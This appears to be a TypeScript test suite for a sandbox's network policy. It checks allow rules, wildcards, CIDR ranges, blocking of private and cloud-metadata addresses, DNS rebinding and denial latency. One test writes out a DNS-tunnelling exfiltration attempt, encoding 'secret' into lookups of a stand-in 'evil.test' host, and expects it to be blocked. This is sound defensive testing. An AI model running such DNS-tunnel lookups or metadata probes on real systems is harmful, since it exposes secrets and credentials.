import type { Box, NetworkPolicy } from '../../lib/index';
import { guestFrames } from '../helpers/images';
import { otherProgram } from '../helpers/programs';
import { engine, homeOf, tempRuntime } from '../helpers/runtimes';
import { scaled } from '../helpers/speed';
import { router, type TwoNetworks, twoNetworks, whyNoNetworks } from '../helpers/two-networks';

const web = '203.0.113.7';
const other = '203.0.113.8';
const privateAddress = '10.9.8.7';
const metadata = '169.254.169.254';
const records = {
  'web.test': [web],
  'a.b.wild.test': [web],
  'wild.test': [web],
  'notwild.test': [web],
  'private.test': [privateAddress],
  'plain.test': [web],
};
const why = whyNoNetworks();
const shown = why === null ? describe : describe.skip;

shown(`servers in another network, and a box on ${engine}${why === null ? '' : ` (not shown: ${why})`}`, () => {
  const runtime = tempRuntime();
  let networks: TwoNetworks;
  let box: Box;

  beforeAll(async () => {
    networks = await twoNetworks([web, other, privateAddress, metadata]);
    await networks.resolve(records);
    // A box's processes are where the program was that made it.
    const program = otherProgram(
      homeOf(runtime),
      `const box = await runtime.createBox({ ...image, detached: true, network: { allow: [], dns: ['${router}'] } });
       say(box.id);`,
      networks.within,
    );
    box = (await runtime.getBox(await program.line())) as Box;
    await program.ended;
    await box.fs.writeFile('/guestframes', guestFrames(), { mode: 0o755 });
  }, scaled(60_000));
  afterAll(async () => {
    await box.remove({ force: true });
    await networks.close();
  });

  const allow = (...rules: NonNullable<Exclude<NetworkPolicy, string>['allow']>) =>
    box.setNetwork({ allow: rules, dns: [router] });
  /** What the server says of where it was reached, or by which rule the first denial was. */
  async function reached(...urls: string[]): Promise<string[]> {
    const answers = [];
    for (const url of urls) {
      const { stdout, denied } = await box.exec(`wget -q -O - http://${url}/`);
      answers.push(denied[0] ? `${denied[0].protocol} ${denied[0].rule}` : stdout.trim());
    }
    return answers;
  }

  test('names are reached on their ports alone, and nothing by its address', async () => {
    await allow('web.test:80');
    expect(await reached(web)).toEqual(['tcp not-allowed']);
    expect(await reached('web.test', 'web.test:81', 'wild.test')).toEqual([
      `${web}:80`,
      'tcp not-allowed',
      'dns not-allowed',
    ]);
    expect(await reached(`${other}`)).toEqual(['tcp not-allowed']);
  });

  test('a wildcard covers whole labels below it', async () => {
    await allow('*.wild.test');
    expect(await reached('a.b.wild.test', 'wild.test', 'notwild.test')).toEqual([
      `${web}:80`,
      'dns not-allowed',
      'dns not-allowed',
    ]);
  });

  test('a range is reached by address, on the ports and by the protocol of its rule', async () => {
    await allow({ cidr: '203.0.113.6/31', ports: [81] }, { cidr: `${other}/32`, protocol: 'udp', ports: [99] });
    expect(await reached(`${web}:81`, web, `${other}:99`)).toEqual([`${web}:81`, 'tcp not-allowed', 'tcp not-allowed']);
    const echoed = await box.exec(['/guestframes', 'udp', `${other}:99`, 'over udp']);
    expect(echoed).toMatchObject({ stdout: 'over udp\n', denied: [] });
    const refused = await box.exec(['/guestframes', 'udp', `${web}:99`, 'over udp']);
    expect(refused.stderr).toContain('connection refused');
    expect(refused.denied[0]).toMatchObject({ ip: web, port: 99, protocol: 'udp', rule: 'not-allowed' });
  });

  test("private ranges, metadata and the host's own address are closed to 'public', and open to a rule that names them", async () => {
    // Its resolver stays: one that is left out would be that of this machine.
    await allow('*', '0.0.0.0/0');
    const closed = [privateAddress, metadata, `${networks.own}:80`, '192.168.127.254', '192.168.127.1'];
    const rules = ['tcp private', 'tcp private', 'tcp private', 'tcp private', 'tcp gateway'];
    expect(await reached('web.test', ...closed)).toEqual([`${web}:80`, ...rules]);
    await box.setNetwork('public');
    expect(await reached(web, ...closed)).toEqual([`${web}:80`, ...rules]);
    await allow(`${privateAddress}/32`, metadata);
    expect(await reached(privateAddress, metadata, web)).toEqual([
      `${privateAddress}:80`,
      `${metadata}:80`,
      'tcp not-allowed',
    ]);
  });

  test('a name whose answer turns to a private address is denied once its pin has ended, and so is the address it had', async () => {
    await allow('web.test');
    expect(await reached('web.test')).toEqual([`${web}:80`]);
    await networks.resolve({ ...records, 'web.test': [privateAddress] });
    // Its answer was good for no time: it stays for the least that a pin lasts.
    expect(await reached('web.test', web)).toEqual([`${web}:80`, `${web}:80`]);
    for (const end = Date.now() + scaled(30_000); Date.now() < end; ) {
      if ((await reached('web.test'))[0] !== `${web}:80`) break;
    }
    expect(await reached('web.test', web, privateAddress)).toEqual(['dns private', 'tcp not-allowed', 'tcp private']);
    await networks.resolve(records);
  });

  test('lookups carry nothing out: names that are not allowed are not asked for, and no other resolver is reached', async () => {
    await allow('plain.test');
    await networks.resolve(records);
    const tunnel = [0, 1, 2, 3].map((at) => `c2vjcmv0${at}.evil.test c2vjcmv0${at}.plain.test`).join(' ');
    const lookedUp = await box.exec(
      `for name in ${tunnel}; do nslookup -type=a $name; done
       nslookup -type=txt c2vjcmv0.plain.test; timeout 2 nslookup -type=a c2vjcmv0.evil.test ${router}
       nslookup -type=a plain.test`,
      { timeoutMs: scaled(60_000) },
    );
    expect(lookedUp.stdout).toContain(web);
    expect(lookedUp.denied).toContainEqual(expect.objectContaining({ host: 'c2vjcmv00.evil.test', protocol: 'dns' }));
    expect(lookedUp.denied).toContainEqual(expect.objectContaining({ ip: router, port: 53, protocol: 'udp' }));
    expect(new Set(await networks.resolve(records))).toEqual(new Set(['plain.test']));
  });

  test('another policy cuts what it no longer allows, and opens what it does', async () => {
    await allow(web);
    await using held = await box.spawn(`nc ${web} 80`);
    const opened = `until netstat -tn | grep -q '${web}:80 *ESTABLISHED'; do sleep 0.05; done`;
    await box.exec(opened, { check: true, timeoutMs: scaled(20_000) });
    await allow(other);
    await held.wait({ timeoutMs: scaled(20_000) });
    expect(await reached(web, other)).toEqual(['tcp not-allowed', `${other}:80`]);
  });

  test('a denial takes no longer than 100 ms of the host', async () => {
    await allow('plain.test');
    const tries = 10;
    const took = async (command: string) => {
      const loop = `for i in $(seq ${tries}); do ${command} </dev/null; done`;
      const { durationMs } = await box.exec(loop, { timeoutMs: scaled(60_000) });
      return durationMs / tries;
    };
    // The same where the guest's own kernel refuses: what is left is the way to boxlite-netd and back.
    const local = await took('nc 127.0.0.1 9');
    const beyondLocal = {
      tcp: (await took(`nc ${other} 80`)) - local,
      name:
        (await took(`nslookup -type=a other.test 192.168.127.1`)) -
        (await took('nslookup -type=a plain.test 192.168.127.1')),
    };
    console.log(`a denial takes ${beyondLocal.tcp.toFixed(1)} ms over TCP`, beyondLocal);
    expect(beyondLocal.tcp).toBeLessThan(scaled(100));
    expect(beyondLocal.name).toBeLessThan(scaled(100));
  });
});
